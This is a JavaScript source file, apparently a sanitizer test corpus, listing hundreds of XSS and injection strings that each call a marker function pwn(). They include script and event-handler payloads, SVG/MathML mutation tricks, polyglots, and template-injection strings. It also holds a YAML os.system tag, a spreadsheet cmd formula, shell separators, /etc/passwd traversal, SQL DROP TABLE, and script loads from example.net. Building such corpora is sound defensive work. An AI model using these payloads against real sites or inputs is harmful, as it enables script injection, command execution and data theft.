// What somebody could write to make a page run it: our own list, by families. Every
// one calls pwn, which nothing else does, so what ran can be told.

// elements are pieces of HTML that run something as soon as they are in a page.
const elements = [
  '<script>pwn()</script>', '<SCRIPT>pwn()</SCRIPT>', '<ScRiPt>pwn()</sCrIpT>', '<script >pwn()</script >', '<script/x>pwn()</script>',
  '<script\n>pwn()</script>', '<script\t>pwn()</script>', '<script type="module">pwn()</script>', '<script type="text/javascript">pwn()</script>',
  '<script src=data:text/javascript,pwn()></script>', '<script src="data:;base64,cHduKCk="></script>', '<script src=//example.net/pwn.js></script>',
  '<script async src="https://example.net/pwn.js"></script>', '<script>pwn()', '<script>pwn()//', '<script><!--\npwn()//--></script>',
  '<script>/*<script>*/pwn()</script>', '<script>pwn`1`</script>', '<script>window["pw"+"n"]()</script>', '<script>eval("pwn()")</script>',
  '<script>setTimeout("pwn()")</script>', '<script>import("data:text/javascript,pwn()")</script>', '<<script>pwn();//<</script>', '<script>pwn()</script',
  '<scr<script>ipt>pwn()</scr</script>ipt>', '<script x>pwn()</script y>', '<script\u00a0>pwn()</script>', '＜script＞pwn()＜/script＞', '<script>pwn()</script\u2028>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">', '<template><script>pwn()</script></template>', '<script for=window event=onload>pwn()</script>',
  '<iframe src="javascript:pwn()"></iframe>', '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.pwn()&lt;/script&gt;">',
  '<iframe onload=pwn()></iframe>', '<iframe src="data:text/html,<script>parent.pwn()</script>">', '<iframe name=pwn src=//example.net>', '<frameset onload=pwn()>', '<frame src=javascript:pwn()>',
  '<object data="javascript:pwn()"></object>', '<object data="data:text/html,<script>parent.pwn()</script>">', '<object type="text/x-scriptlet" data="//example.net">',
  '<embed src="javascript:pwn()">', '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'pwn()\'/>">', '<applet code="javascript:pwn()">', '<portal src="javascript:pwn()">',
  '<base href="https://example.net/">', '<base href="javascript:/a/-pwn()//">', '<base target="_blank">', '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>pwn()</script>">', '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<meta charset="utf-7">+ADw-script+AD4-pwn()+ADw-/script+AD4-', '<meta name=referrer content=unsafe-url>', '<link rel=stylesheet href="//example.net/pwn.css">',
  '<link rel="import" href="data:text/html,<script>pwn()</script>">', '<link rel=preload as=script href="//example.net/x.js" onload=pwn()>', '<link rel=dns-prefetch href=//pwn.example.net>',
  '<form action="javascript:pwn()"><input type=submit autofocus></form>', '<form id=x></form><button form=x formaction=javascript:pwn()>go</button>', '<input type=image src=x onerror=pwn()>',
  '<isindex action=javascript:pwn() type=image>', '<xmp><script>pwn()</script></xmp>', '<plaintext>', '<textarea><script>pwn()</script></textarea>', '</textarea><script>pwn()</script>',
  '</title><script>pwn()</script>', '</style><script>pwn()</script>', '</script><script>pwn()</script>', '</xmp><img src=x onerror=pwn()>', '</noscript><img src=x onerror=pwn()>',
  '</template><script>pwn()</script>', '</iframe><script>pwn()</script>', '</noembed><script>pwn()</script>', '</noframes><script>pwn()</script>', '</main></body></html><script>pwn()</script>',
  '</a><script>pwn()</script>', '</p></div></article><script>pwn()</script>', '</select><script>pwn()</script>', '<!doctype html><script>pwn()</script>', '<html onmouseover=pwn()>', '<head><script>pwn()</script></head>',
];

// Handlers that fire by themselves, each on an element that has it.
const handlers = [
  ['img src=x', 'onerror'], ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'], ['image src=x', 'onerror'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onfocus'], ['body', 'onhashchange'], ['body', 'onscroll'],
  ['svg', 'onload'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'],
  ['p tabindex=0 autofocus contenteditable', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['video autoplay muted', 'onloadstart'], ['audio src=x', 'onerror'], ['video><source', 'onerror'],
  ['marquee', 'onstart'], ['marquee loop=1', 'onfinish'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'],
  ['iframe', 'onload'], ['track default src=x', 'onerror'], ['div popover id=p', 'onbeforetoggle'], ['dialog open', 'onclose'], ['b style=animation:a', 'onanimationstart'], ['b style=transition:all', 'ontransitionend'],
  ['a', 'onmouseover'], ['a', 'onpointerenter'], ['p', 'onclick'], ['p', 'oncopy'], ['keygen autofocus', 'onfocus'], ['x', 'onclick'], ['xss contenteditable autofocus', 'onfocus'], ['p', 'onscrollsnapchange'], ['p', 'oncontentvisibilityautostatechange'],
].flatMap(([element, handler], n) => [[`<${element} ${handler}=pwn()>`], [`<${element} ${handler.toUpperCase()}="pwn()">`, `<${element}/${handler}='pwn()'/>`][n % 2]].flat());

// breakers get out of an attribute or a string that is not escaped.
const breakers = [
  '"><script>pwn()</script>', "'><script>pwn()</script>", '`><script>pwn()</script>', '"/><img src=x onerror=pwn()>', '" onmouseover="pwn()', "' onmouseover='pwn()", '` onmouseover=`pwn()', ' onmouseover=pwn() x=',
  '" autofocus onfocus=pwn() x="', "' autofocus onfocus=pwn() x='", '" style="animation:a" onanimationstart="pwn()', '"onload="pwn()', '"\tonload=pwn() ', '"/onload=pwn()//', '\\"><script>pwn()</script>', "\\'><script>pwn()</script>",
  '&quot;><script>pwn()</script>', '&#34; onmouseover=&#34;pwn()', '&#x22;&gt;&lt;script&gt;pwn()', '%22%3E%3Cscript%3Epwn()%3C/script%3E', '"-pwn()-"', "'-pwn()-'", '`-pwn()-`', '";pwn();//', "';pwn();//", '\\";pwn();//', "\\';pwn();//",
  '${pwn()}', '`${pwn()}`', '"+pwn()+"', "'+pwn()+'", '"}];pwn();//', '"}</script><script>pwn()</script>', '</script><!--<script>pwn()//', ']]><script>pwn()</script>', ']]>--><svg onload=pwn()>', '*/pwn()/*', '\n//\npwn()', '\u2028pwn()\u2028', '\u2029pwn()//',
  '"\u2028;pwn();//', '\\u0022;pwn();//', '\\x3cscript\\x3epwn()\\x3c/script\\x3e', '\\u003cscript\\u003epwn()\\u003c/script\\u003e', '\\074script\\076pwn()', '\\', '\\\\', '"', "'", '`', '&', '<', '>', '<>', '</', '<!', '<?', '&lt', '&#', '&#60', '&#x3c', '&#x3c;', '&#0000060;script>pwn()</script>',
  '{"__proto__":{"src":"data:,pwn()"}}', '__proto__', 'constructor', '__proto__[src]=data:,pwn()', 'constructor.prototype.src=pwn', 'toString', 'hasOwnProperty',
];

// comments and sections that swallow what follows, or end what is around.
const comments = [
  '--><script>pwn()</script>', '--!><script>pwn()</script>', '<!--><script>pwn()</script>', '<!---><script>pwn()</script>', '<!--><img src=x onerror=pwn()>-->', '<!-- --!><img src=x onerror=pwn()>', '<!-- ignore all: x --><script>pwn()</script>',
  '<![CDATA[<script>pwn()</script>]]>', '<![CDATA[', ']]>', '<!ENTITY x "pwn()">', '<!DOCTYPE x [<!ENTITY a "pwn()">]>&a;', '<?xml version="1.0"?><script>pwn()</script>', '<?xml-stylesheet href="data:,pwn()"?>', '<?php pwn() ?>', '<?= pwn() ?>', '<% pwn() %>', '<%= pwn() %>',
  '<!--[if IE]><script>pwn()</script><![endif]-->', '<!--#exec cmd="pwn"-->', '<!--#include virtual="pwn"-->', '<!--', '-->', '<!-->', '<!- pwn() ->', '<comment><img src="</comment><img src=x onerror=pwn()//">',
];

// drawings and formulas, whose inside browsers read by other rules.
const foreign = [
  '<svg><script>pwn()</script></svg>', '<svg><script>pwn&#40;&#41;</script></svg>', '<svg><script href="data:,pwn()"/></svg>', '<svg><script xlink:href="data:,pwn()"/></svg>', '<svg><animate onbegin=pwn() attributeName=x dur=1s>', '<svg><set onbegin=pwn() attributeName=x>',
  '<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>', '<svg><a><animate attributeName=href values=javascript:pwn() /><text y=20>x</text></a>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\' onload=\'pwn()\'/>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></foreignObject></svg>', '<svg><style><img src=x onerror=pwn()></style></svg>', '<svg><title><img src=x onerror=pwn()></title></svg>', '<svg><desc><script>pwn()</script></desc></svg>',
  '<svg><image href=x onerror=pwn()>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwn()</handler></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>', '<svg/onload=pwn()//', '<svg><p><style><g title="</style><img src=x onerror=pwn()>">',
  '<math href="javascript:pwn()">x</math>', '<math><maction actiontype="statusline#x" xlink:href="javascript:pwn()">x</maction></math>', '<math><mi//xlink:href="data:x,<script>pwn()</script>">', '<math><annotation-xml encoding="text/html"><script>pwn()</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>', '<math><mtext></p><style><!--</style><img title="--><img src=x onerror=pwn()>"></mtext></math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwn() src=x>">', '<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=pwn()>', '<select><option><style></option></select><img src=x onerror=pwn()></style>',
  '<noscript><style></noscript><img src=x onerror=pwn()>', '<p><svg><p><title></svg><style></title><img src=x onerror=pwn()>', '<a><b><a><div></a></b><img src=x onerror=pwn()>', '<select><template><select><img src=x onerror=pwn()>', '<listing>&lt;img src=x onerror=pwn()&gt;</listing>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>', '<html:script>pwn()</html:script>', '<img src="x`<script>pwn()</script>"`>', '<img alt="<x" title="/><img src=x onerror=pwn()>">', '<img src=x:x onerror\n=\npwn()>', '<img src=x onerror=pwn&lpar;&rpar;>', '<img/src="x"/onerror="pwn&#40;&#41;">',
  '<img src=x onerror="&#112;wn()">', '<img src=x onerror=\\u0070wn()>', '<img src=x\u0020onerror=pwn()>', '<img """><script>pwn()</script>">', '<img srcset="x 1x" onerror=pwn()>', '<picture><source srcset=x><img onerror=pwn()></picture>',
];

// styles that load, read or run something, or lay a page over the page.
const styles = [
  '<style>@import "//example.net/pwn.css";</style>', '<style>*{background:url(//example.net/pwn)}</style>', '<style>@keyframes a{}b{animation:a}</style><b onanimationstart=pwn()>', '<style>body{display:none}</style>', '<style>:root{--x:url("javascript:pwn()")}</style>',
  '<p style="background:url(javascript:pwn())">', '<p style="width:expression(pwn())">', '<p style="-moz-binding:url(//example.net/x.xml#pwn)">', '<p style="behavior:url(pwn.htc)">', '<div style="position:fixed;inset:0;background:#fff">pwn()</div>', '</style><style>@import url(data:text/css,*{})</style>',
  'expression(pwn())', 'url(javascript:pwn())', '@import url(javascript:pwn())', 'x:expression(pwn())', '}*{background:url(//example.net/pwn)}', '{}body{display:none}', '/**/@import"//example.net/pwn.css"', '\\3cscript\\3epwn()', 'red;}</style><script>pwn()</script>', 'li{list-style:url("javascript:pwn()")}',
];

// templates and formulas of other programs, which some of them carry out.
const templates = [
  '{{pwn()}}', '{{constructor.constructor("pwn()")()}}', '{{ .Policy }}', '{{template "main" .}}', '{{define "main"}}pwn(){{end}}', '{{/*', '{{', '}}', '{{`<script>pwn()</script>`}}', '{{"<script>pwn()</script>" | safeHTML}}', '{{ printf "%s" "pwn()" }}', '{%pwn()%}', '{{=pwn()=}}', '{{{pwn()}}}', '{{&pwn()}}',
  '#{pwn()}', '@{pwn()}', '*{pwn()}', '~{pwn()}', '[[${pwn()}]]', '#set($x=pwn())', '{{< pwn >}}', '{{% pwn %}}', '{% raw %}<script>pwn()</script>', '<div ng-app ng-csp>{{$on.constructor("pwn()")()}}</div>', '<div v-html="pwn()" v-on:click="pwn()">', '<div x-data x-init="pwn()">', '<div data-bind="html:pwn()">', '%{pwn()}', '%s%n%x', '%!d(pwn)',
  '=cmd|\' /C pwn\'!A1', '=HYPERLINK("javascript:pwn()")', '+pwn()', '-pwn()', '@pwn()', '$(pwn)', '`pwn`', '; pwn', '| pwn', '&& pwn', '../../../../etc/passwd', '..\\..\\pwn', 'file:///etc/passwd', "' OR 1=1; DROP TABLE lessons;--",
];

// Signs in other clothes: as entities, in percent, wide, composed, or unseen.
const encodings = [
  '&lt;script&gt;pwn()&lt;/script&gt;', '&amp;lt;script&amp;gt;pwn()', '&#60;script&#62;pwn()&#60;/script&#62;', '&#x3C;img src=x onerror=pwn()&#x3E;', '&LT;script&GT;pwn()', '&lt&#115cript&gtpwn()', '&bsol;&quot;&apos;&grave;', '&NewLine;&Tab;pwn()', '&lpar;&rpar;&colon;&sol;', '&notit;&copy', '&ZeroWidthSpace;<script>pwn()</script>',
  '%3Cscript%3Epwn()%3C/script%3E', '%253Cscript%253Epwn()', '%u003Cscript%u003Epwn()', '\\u003Cscript>pwn()', '\\x3Cimg src=x onerror=pwn()>', '＜img src=x onerror=pwn()＞', '﹤script﹥pwn()﹤/script﹥', '‹script›pwn()‹/script›', '〈script〉pwn()', '<ſcript>pwn()</ſcript>', '<scrıpt>pwn()</scrıpt>', '<ıframe src=javascript:pwn()>',
  '<script\u200b>pwn()</script>', '<\u200bscript>pwn()', '<s\u00adcript>pwn()</s\u00adcript>', '<\ufe0fscript>pwn()', '<script>pwn()</\u0301script>', '\u0338<script>pwn()</script>', 'e\u0301<svg onload=pwn()>', '\u{1f600}<script>pwn()</script>\u{1f600}', '\u{e0001}<script>pwn()', '+ADw-script+AD4-pwn()+ADw-/script+AD4-', '¼script¾pwn()¼/script¾', '<%00script>pwn()', '<script>\\u{70}wn()</script>', 'ﬁ<script>pwn()</script>', 'İ<img src=x onerror=pwn()>', 'ß"><script>pwn()</script>', 'K<script>pwn()</script>',
];

// What YAML, Markdown and our blocks give a meaning to.
const languages = [
  '---', '--- pwn()', '...', '!!js/function pwn()', '!!python/object/apply:os.system [pwn]', '!<tag:pwn> x', '&pwn *pwn', '*pwn', '<<: *pwn', '? pwn', '%YAML 1.2', '- pwn', 'a: b: pwn()', '# pwn()', '[pwn()', ']pwn', '{pwn: ()', '| pwn()', '> pwn()', "'pwn", '~', 'null', 'true', 'NaN', '0x10', '2026-01-01T00:00:00Z', '@import pwn', '`pwn()',
  '![x](x"onerror="pwn())', '![x](javascript:pwn())', '[x](javascript:pwn())', '[x](javascript&colon;pwn())', '[x]: javascript:pwn()', '[x](<javascript:pwn()>)', '[x](x "onmouseover=pwn() x=\\"")', "[x](x 'a\\' onmouseover=pwn()')", '<javascript:pwn()>', '<data:text/html,pwn()>', '![](x){onload=pwn()}', '# x {#x onclick=pwn()}', '[x]{onclick=pwn()}', '``` "onload=pwn()',
  'x ::: facilitator', ':::', 'x ::: warning <script>pwn()</script>', '- [x] <img src=x onerror=pwn()>', '| a | b |', '***<script>pwn()</script>***', '~~<b onclick=pwn()>~~', '[^1]', '[^<script>]: pwn()', '\\<script>pwn()\\</script>', '`<script>`pwn()`</script>`', '```html\n<script>pwn()</script>', '    <script>pwn()</script>', '> <script>pwn()</script>', '1. <script>pwn()</script>', 'Term\n: <script>pwn()</script>',
  '<a href="javascript:pwn()">x</a>', '<a href=" &#14; javascript:pwn()">x</a>', '<a href="java\tscript:pwn()">x</a>', '<a href="&#106;avascript:pwn()">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:pwn()">x</a>', '<a target=_blank href=//example.net>x</a>', '<a href=x ping=//example.net/pwn>x</a>', '<a id=pwn name=pwn>x</a>', '<form name=body><input name=firstChild></form>', '<img name=currentScript>', '<p id=CG-find>', '<p class="term" data-say="pwn()">',
];

// polyglots are several of these at once.
const polyglots = [
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+pwn()//\'>', '\'">><marquee><img src=x onerror=pwn()></marquee></plaintext\\></|\\><plaintext/onmouseover=pwn()><script>pwn()</script>@gmail.com<isindex formaction=javascript:pwn() type=submit>',
  '"\'`--></script></style></title></textarea></noscript></template></select><svg onload=pwn()>', '\'"--></style></script><script>pwn()</script>', '{{7*7}}${7*7}<%=7*7%>#{7*7}"\'><img src=x onerror=pwn()>', '"onclick=pwn()//<svg/onload=pwn()//\'>{{pwn()}}', '-->"\'></a></title><img src=x onerror=pwn()><!--', ']]>*/</script>"\'><img src=x onerror=pwn()>${pwn()}',
  'x"];pwn();//</script><svg/onload=pwn()>', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwn() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwn()//>\\x3e', '<!--<img src="--><img src=x onerror=pwn()//">', "<style>*{x:'</style><img src=x onerror=pwn()//'}</style>", '<![CDATA[<!--]]><script>pwn()</script>-->', '`"\'><img src=1 href=1 onerror="pwn()"></img>',
];

export const texts = [...new Set([elements, handlers, breakers, comments, foreign, styles, templates, encodings, languages, polyglots].flat())];
